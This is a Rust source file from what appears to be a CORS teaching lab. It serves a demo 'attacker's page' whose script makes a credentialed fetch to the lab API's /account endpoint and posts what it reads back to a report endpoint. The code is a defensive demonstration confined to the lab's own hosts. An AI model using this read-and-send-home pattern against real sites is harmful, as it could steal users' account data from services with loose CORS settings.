//! The "attacker's page" of the `/why` credentials demo, served by the app
//! origin at `GET /api/attacker` — under whichever host the browser used,
//! so the same page plays a page of the API's own site (`localhost:<app
//! port>` next to `localhost:<api port>`) or of another site (`127.0.0.1`).
//!
//! Opened as a top-level page, as a victim would open any link, its script
//! sends `fetch(<API>/account, { credentials: "include" })`, shows what it
//! got, and posts that text to its own origin (`POST /api/attacker/report`),
//! which is what a real attacker would do with stolen data. The server log
//! then holds both halves of the story: the API's entry (did the cookie come
//! along? what did the server answer?) and the report (what the script could
//! actually read).
//!
//! The page's script takes its parameters from its own address and checks
//! them (tags of letters, digits, `-` and `_`; a plain host name or address)
//! before building one URL on the lab's API port; the server writes only
//! that port number into the page. Its words follow the learner's language
//! (`?lang=`, which the app's links carry, else `Accept-Language`:
//! [`crate::words`]); what the browser and the API said is shown as they
//! said it, marked `lang="en"` where it is the browser's error.

use axum::extract::State;
use axum::http::header::CONTENT_TYPE;
use axum::http::{HeaderMap, HeaderValue, StatusCode, Uri};
use axum::response::{Html, IntoResponse, Response};
use cors_core::wire::Role;

use crate::state::AppState;
use crate::words::{fill_page, Lang};

/// `GET`: the attacker's page.
pub const ATTACKER_PATH: &str = "/api/attacker";
/// `POST`: where the page sends what it could read (body: that text).
pub const REPORT_PATH: &str = "/api/attacker/report";
/// The query parameter naming the API's host (the victim's lab host).
pub const API_HOST_PARAM: &str = "api_host";

/// The texts the page's script shows (`locales/*/server.json`).
const SCRIPT_WORDS: [&str; 4] = [
    "attacker.bad_host",
    "attacker.nothing",
    "attacker.read",
    "attacker.report_failed",
];

const PAGE: &str = r#"<!doctype html>
<html lang="__LANG__">
<head>
<meta charset="utf-8">
<title>__TITLE__</title>
<style>
  body { font-family: system-ui, sans-serif; margin: 2rem; max-width: 46rem; color: #1a1a1a; background: #fff7ed; }
  h1 { font-size: 1.4rem; }
  code, output { font-family: ui-monospace, monospace; overflow-wrap: anywhere; }
  output { display: block; background: #fff; border: 1px solid #9a3412; padding: .5rem; white-space: pre-wrap; }
</style>
</head>
<body>
<main>
<h1>__HEADING__</h1>
<p>__INTRO__</p>
<p><code id="sent" data-testid="attacker-sent">__NOT_RUN_YET__</code></p>
<h2>__GOT_TITLE__</h2>
<output id="got" data-testid="attacker-got">__WAITING__</output>
<h2>__REPORTED_TITLE__</h2>
<output id="reported" data-testid="attacker-reported">__WAITING__</output>
<p>__BACK__</p>
</main>
<script>
(async () => {
  const API_PORT = __API_PORT__;
  const WORDS = __WORDS__;
  const params = new URLSearchParams(location.search);
  const tag = (name) => {
    const value = params.get(name) || "";
    return /^[A-Za-z0-9_-]{1,60}$/.test(value) ? value : "";
  };
  const apiHost = params.get("api_host") || location.hostname;
  const hostOk = /^([A-Za-z0-9.-]{1,253}|\[[0-9A-Fa-f:.]{2,45}\])$/.test(apiHost);
  const query = new URLSearchParams();
  for (const name of ["learner", "case"]) {
    if (tag(name)) query.set(name, tag(name));
  }
  const fill = (words, args) =>
    Object.entries(args).reduce((text, [name, value]) => text.split("{{ " + name + " }}").join(value), words);
  // `data`: what the browser or a server said, as it said it (a browser's
  // error is in English), not the page's words.
  const show = (id, text, data) => {
    const element = document.getElementById(id);
    element.textContent = text;
    if (data) {
      element.setAttribute("lang", "en");
      element.setAttribute("translate", "no");
    }
  };
  show("here", location.origin);
  if (!hostOk) {
    show("got", WORDS["attacker.bad_host"]);
    show("reported", WORDS["attacker.nothing"]);
    document.body.dataset.done = "true";
    return;
  }
  const url = "http://" + apiHost + ":" + API_PORT + "/account?" + query;
  show("sent", 'fetch("' + url + '", { credentials: "include" })');
  // What is sent home: the attacker's own report, the same in every
  // language (the lab's card reads it).
  let got;
  try {
    const response = await fetch(url, { credentials: "include" });
    const body = await response.text();
    got = "read it: status " + response.status + ", " + body;
    show("got", fill(WORDS["attacker.read"], { status: response.status, body }));
  } catch (error) {
    got = String(error);
    show("got", got, true);
  }
  try {
    await fetch("/api/attacker/report?" + query, { method: "POST", body: got });
    show("reported", got, true);
  } catch (error) {
    show("reported", fill(WORDS["attacker.report_failed"], { error: String(error) }));
  }
  document.body.dataset.done = "true";
})();
</script>
</body>
</html>
"#;

/// The page in `lang`, with the API origin's port written in.
pub(crate) fn page(lang: Lang, api_port: u16) -> String {
    fill_page(
        PAGE,
        &[
            ("__LANG__", lang.tag()),
            ("__TITLE__", &lang.html("attacker.title", &[])),
            ("__HEADING__", &lang.html("attacker.heading", &[])),
            (
                "__INTRO__",
                &lang.html("attacker.intro", &[("here", r#"<code id="here"></code>"#)]),
            ),
            ("__NOT_RUN_YET__", &lang.html("attacker.not_run_yet", &[])),
            ("__GOT_TITLE__", &lang.html("attacker.got_title", &[])),
            (
                "__REPORTED_TITLE__",
                &lang.html("attacker.reported_title", &[]),
            ),
            ("__WAITING__", &lang.html("attacker.waiting", &[])),
            ("__BACK__", &lang.html("attacker.back", &[])),
            ("__API_PORT__", &api_port.to_string()),
            ("__WORDS__", &lang.script_words(&SCRIPT_WORDS)),
        ],
    )
}

/// `GET /api/attacker`: the page in the learner's language.
pub(crate) async fn attacker_page(
    State(state): State<AppState>,
    uri: Uri,
    headers: HeaderMap,
) -> Response {
    let lang = Lang::of_request(uri.query(), &headers);
    let mut response = Html(page(lang, state.port(Role::Api))).into_response();
    response.headers_mut().insert(
        CONTENT_TYPE,
        HeaderValue::from_static("text/html; charset=utf-8"),
    );
    lang.mark(response.headers_mut());
    response
}

/// `POST /api/attacker/report`: the attacker's server receiving what the
/// page read; the log keeps the body, nothing else does.
pub(crate) async fn report() -> StatusCode {
    StatusCode::NO_CONTENT
}
